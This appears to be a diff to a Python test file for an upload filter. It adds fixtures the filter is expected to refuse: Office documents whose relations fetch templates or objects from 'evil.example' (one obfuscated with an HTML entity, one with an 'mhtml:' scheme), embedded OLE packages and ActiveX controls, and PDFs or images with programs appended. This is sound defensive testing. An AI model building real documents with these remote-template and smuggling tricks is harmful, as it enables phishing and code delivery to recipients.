@@ -14,6 +14,7 @@ from register.core.files import accept, accepting, names, zipped
 from tests.support import papers
 from tests.support.clamav import EICAR, scanning
 
+SETTINGS = "word/_rels/settings.xml.rels"
 WORKBOOK = papers.office("xlsx")
 ZEROS = bytes(6 * 1024 * 1024)
 
@@ -28,6 +29,21 @@ TAKEN = {
     "PLAN.PDF": papers.PDF,
     "letter.docx": papers.office("docx"),
     "with a chart.docx": office_with("word/embeddings/book.xlsx", WORKBOOK),
+    "with an old book.docx": office_with("word/embeddings/oleObject1.bin", papers.old_office("Workbook")),
+    "with a template of its own.docx": office_with(
+        SETTINGS, papers.relations("attachedTemplate", r"file:///C:\Templates\Force%20letter.dotx")
+    ),
+    "with a template of its office.docx": office_with(
+        SETTINGS, papers.relations("attachedTemplate", r"\\fs01\Templates\Letter.dotx")
+    ),
+    "with a link.docx": office_with(
+        "word/_rels/document.xml.rels", papers.relations("hyperlink", "https://example.org/")
+    ),
+    "with a part.docx": office_with(
+        "word/_rels/document.xml.rels",
+        papers.relations("oleObject", "embeddings/oleObject1.bin", "Internal"),
+    ),
+    "with much inside.pdf": papers.pdf(5_000),
     "book.xlsx": WORKBOOK,
     "slides.pptx": papers.office("pptx"),
     "text.odt": papers.open_document("odt"),
@@ -51,6 +67,8 @@ NOT_TEXT, DAMAGED, BOMB, STRANGE = (
     "grow too large",
     "program or an archive inside",
 )
+OBJECT, FETCHES = "an object of another program inside", "fetches a template or an object from the web"
+REMOTE = papers.relations("attachedTemplate", "https://evil.example/a.dotm")
 REFUSED = {
     "a page": ("page.html", b"<script>", PICK),
     "a program": ("run.exe", b"MZ", PICK),
@@ -79,6 +97,70 @@ REFUSED = {
     "a text of zeros": ("notes.txt", b"abc\0def", NOT_TEXT),
     "a program named as a text": ("notes.csv", b"\x7fELF\x02\x01\x01\0", NOT_TEXT),
     "a text of a screen's commands": ("notes.txt", b"\x1b[2J", NOT_TEXT),
+    "a PDF that does not end as one": ("plan.pdf", b"%PDF-1.4\n<script>go()</script>", OTHER_KIND),
+    "a PDF with a program behind it": ("plan.pdf", papers.PDF + b"MZ" + bytes(2000), OTHER_KIND),
+    "a photo with an archive behind it": (
+        "photo.png",
+        papers.png() + papers.zipped({"a": b"MZ"}),
+        OTHER_KIND,
+    ),
+    "a program packed into a letter": (
+        "a.docx",
+        office_with("word/embeddings/oleObject1.bin", papers.old_office("\x01Ole10Native") + b"MZ\x90"),
+        OBJECT,
+    ),
+    "one beside a book": (
+        "a.docx",
+        office_with("word/embeddings/oleObject1.bin", papers.old_office("Workbook", "\x01Ole10Native")),
+        OBJECT,
+    ),
+    "one packed into an old letter": ("a.doc", papers.old_office("WordDocument", "\x01Ole10Native"), OBJECT),
+    "a control in a letter": (
+        "a.docx",
+        office_with("word/activeX/activeX1.bin", papers.old_office("Contents")),
+        OBJECT,
+    ),
+    "an object in an OpenDocument": (
+        "a.odt",
+        papers.open_document(Object=papers.old_office("Contents")),
+        OBJECT,
+    ),
+    "macros of an old book in a letter": (
+        "a.docx",
+        office_with("word/embeddings/oleObject1.bin", papers.old_office("Workbook", "_VBA_PROJECT_CUR")),
+        MACROS,
+    ),
+    "a template from the web": ("a.docx", office_with(SETTINGS, REMOTE), FETCHES),
+    "one in a letter in slides": (
+        "a.pptx",
+        office_with("ppt/x.docx", office_with(SETTINGS, REMOTE), "pptx"),
+        FETCHES,
+    ),
+    "an object from the web": (
+        "a.docx",
+        office_with("word/_rels/document.xml.rels", papers.relations("oleObject", "HTTP://evil.example/a")),
+        FETCHES,
+    ),
+    "a frame in other signs": (
+        "a.docx",
+        office_with(
+            "word/_rels/WEBSETTINGS.XML.RELS",
+            b"<r:Relationships><r:Relationship a='>'\n TargetMode = 'External'  Type='x/frame'\n"
+            b" Target=' &#104;ttps://evil.example/'></r:Relationship></r:Relationships>",
+        ),
+        FETCHES,
+    ),
+    "a template by a protocol of Office's": (
+        "a.docx",
+        office_with(SETTINGS, papers.relations("attachedTemplate", "mhtml:evil")),
+        FETCHES,
+    ),
+    "relations in an encoding of their own": (
+        "a.docx",
+        office_with(SETTINGS, REMOTE.decode().encode("utf-16")),
+        DAMAGED,
+    ),
+    "relations that are none": ("a.docx", office_with(SETTINGS, b"<x/>"), DAMAGED),
     "a letter with macros": ("letter.docm", papers.office("docx"), MACROS),
     "a letter with macros under another name": ("a.docx", office_with("word/vbaProject.bin", b"x"), MACROS),
     "macros anywhere": ("a.docx", office_with("word/sub/VBAPROJECT.BIN", b"x"), MACROS),
@@ -214,7 +296,7 @@ def test_a_name_keeps_what_people_read_and_nothing_else(given: str, kept: str) -
 
 
 def test_the_scanner_sees_the_whole_file_and_lets_a_clean_one_in(settings: Any) -> None:
-    content = papers.PDF + bytes(200_000)
+    content = papers.pdf(200_000)
     with scanning() as scanner:
         settings.CLAMAV = scanner.address
         assert accept(file("plan.pdf", content)).content.read() == content
@@ -243,7 +325,7 @@ def test_a_file_that_is_too_long_for_the_scanner_is_not_kept(settings: Any) -> N
         scanner.most = 100_000
         settings.CLAMAV = scanner.address
         with pytest.raises(ValidationError, match="Try again later"):
-            accept(file("plan.pdf", papers.PDF + bytes(2_000_000)))
+            accept(file("plan.pdf", papers.pdf(2_000_000)))
 
 
 def test_nothing_is_kept_while_the_scanner_is_away(settings: Any, tmp_path: Any) -> None:
